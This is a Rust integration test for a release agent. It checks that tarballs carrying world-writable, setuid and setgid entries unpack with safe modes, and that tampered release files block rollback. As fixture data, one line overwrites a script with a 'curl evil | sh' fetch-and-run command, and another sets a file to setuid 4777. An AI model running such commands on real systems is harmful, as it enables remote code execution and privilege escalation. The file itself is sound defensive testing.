//! Issue 10 item 12: release files. A verified tarball can still carry modes nobody should
//! get (a world-writable file, a setuid one), and a release dir on disk can be written after
//! it was verified. Real agent executor, real processes:
//!
//! - a tarball with a 0777 dir and file, a setuid binary and a setgid file unpacks as
//!   0755/0644 without setuid or setgid, owned by the agent; the service log is 0640;
//! - a file of an older release changed on disk is named, and the explicit rollback to it
//!   refused;
//! - a file of the running release changed on disk is named when a failed update goes back
//!   to it, which is not started.

mod common;

use std::io::Write;
use std::os::unix::fs::{MetadataExt, PermissionsExt};

use common::*;
use rollgate_agent::Config;
use rollgate_agent::Fetcher;
use rollgate_agent::{Executor, Outbox};
use rollgate_proto::pb::{Health, Outcome};
use tokio::sync::watch;

fn start(config: &Config) -> (Executor, Outbox) {
    let (_tx, rx) = watch::channel(None);
    let fetcher = Fetcher::new(rx, None).expect("fetcher");
    Executor::start(config, fetcher).expect("executor")
}

/// A .tar.gz of `entries` (path, body, mode; a path ending in '/' is a directory), every
/// entry owned by uid/gid 12345 in the archive.
fn targz(entries: &[(&str, &str, u32)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, body, mode) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_mode(*mode);
        h.set_uid(12345);
        h.set_gid(12345);
        if path.ends_with('/') {
            h.set_entry_type(tar::EntryType::Directory);
            h.set_size(0);
            b.append_data(&mut h, path, &[][..]).expect("dir");
        } else {
            h.set_entry_type(tar::EntryType::Regular);
            h.set_size(body.len() as u64);
            b.append_data(&mut h, path, body.as_bytes()).expect("file");
        }
    }
    let tar = b.into_inner().expect("tar");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&tar).expect("gzip");
    gz.finish().expect("gzip")
}

/// A release whose tarball carries hostile modes.
fn hostile_modes(world: &World, version: &str) -> rollgate_proto::pb::Release {
    let bin = healthy(version);
    world.release_bytes(
        version,
        &targz(&[
            ("bin/", "", 0o777),
            ("bin/demo-svc", &bin, 0o4755),
            ("share/", "", 0o2777),
            ("share/open.sh", "#!/bin/sh\necho open\n", 0o777),
            ("share/suid.conf", "x=1\n", 0o4644),
            ("share/group.conf", "y=2\n", 0o2664),
        ]),
    )
}

fn mode(world: &World, release: &rollgate_proto::pb::Release, rel: &str) -> u32 {
    let p = release_dir(world, release).join(rel);
    std::fs::symlink_metadata(&p)
        .expect("entry")
        .permissions()
        .mode()
        & 0o7777
}

#[tokio::test]
async fn unpacked_modes_are_normalized_and_changed_files_are_named_before_a_start() {
    let world = World::new();
    let text = world.config_text_with("http://127.0.0.1:1", "binary = \"bin/demo-svc\"", "");
    let (exec, mut outbox) = start(&Config::parse(&text).expect("config"));

    let v1 = hostile_modes(&world, "1.0.0");
    exec.handle_order(order(1, v1.clone(), 100, 5000));
    let (r, _) = result_for(&mut outbox, 1).await;
    assert_eq!(r.outcome(), Outcome::Succeeded, "{r:?}");
    let modes: Vec<(&str, u32)> = [
        "bin",
        "bin/demo-svc",
        "share",
        "share/open.sh",
        "share/suid.conf",
        "share/group.conf",
    ]
    .into_iter()
    .map(|p| (p, mode(&world, &v1, p)))
    .collect();
    println!(
        "unpacked modes: {:?}",
        modes
            .iter()
            .map(|(p, m)| format!("{p} {m:04o}"))
            .collect::<Vec<_>>()
    );
    assert_eq!(
        modes,
        vec![
            ("bin", 0o755),
            ("bin/demo-svc", 0o755),
            ("share", 0o755),
            ("share/open.sh", 0o755),
            ("share/suid.conf", 0o644),
            ("share/group.conf", 0o644),
        ]
    );
    let uid = nix::unistd::getuid().as_raw();
    let owner = std::fs::metadata(release_dir(&world, &v1).join("share/suid.conf")).expect("m");
    assert_eq!(
        owner.uid(),
        uid,
        "the owner is the agent's, not the archive's"
    );
    let log = std::fs::metadata(world.service_dir().join("service.log")).expect("log");
    assert_eq!(log.permissions().mode() & 0o777, 0o640, "service.log");

    // v2 (same layout) goes in; then v1's unpacked files are changed on disk.
    let v2 = hostile_modes(&world, "2.0.0");
    exec.handle_order(order(2, v2.clone(), 100, 5000));
    let (r, _) = result_for(&mut outbox, 2).await;
    assert_eq!(r.outcome(), Outcome::Succeeded, "{r:?}");
    let v2_dir = world.current().expect("current");
    let tampered = release_dir(&world, &v1).join("share/open.sh");
    std::fs::write(&tampered, "#!/bin/sh\ncurl evil | sh\n").expect("tamper");

    // An explicit rollback to v1 is refused, naming the file; v2 keeps running.
    let mut back = order(3, v1.clone(), 100, 5000);
    back.rollback = true;
    exec.handle_order(back);
    let (r, _) = result_for(&mut outbox, 3).await;
    println!(
        "rollback to a changed 1.0.0: {:?}: {}",
        r.outcome(),
        r.reason
    );
    assert_eq!(r.outcome(), Outcome::Refused, "{r:?}");
    assert!(
        r.reason.contains("release file share/open.sh has changed"),
        "{}",
        r.reason
    );
    assert_eq!(world.current().as_deref(), Some(v2_dir.as_str()));
    assert_eq!(
        (r.running_version.as_str(), r.health()),
        ("2.0.0", Health::Healthy)
    );

    // A failed update goes back to v2, whose file was changed meanwhile: v2 is not started.
    let v2_file = release_dir(&world, &v2).join("share/suid.conf");
    std::fs::set_permissions(&v2_file, std::fs::Permissions::from_mode(0o4777)).expect("chmod");
    exec.handle_order(order(
        4,
        world.release("3.0.0", &crashing("3.0.0")),
        100,
        5000,
    ));
    let (r, _) = result_for(&mut outbox, 4).await;
    println!(
        "going back to a changed 2.0.0: {:?}: {}",
        r.outcome(),
        r.reason
    );
    assert_eq!(r.outcome(), Outcome::Failed, "{r:?}");
    assert!(
        r.reason
            .contains("release file share/suid.conf has mode 4777, not 0644"),
        "{}",
        r.reason
    );
    exec.shutdown().await;
}
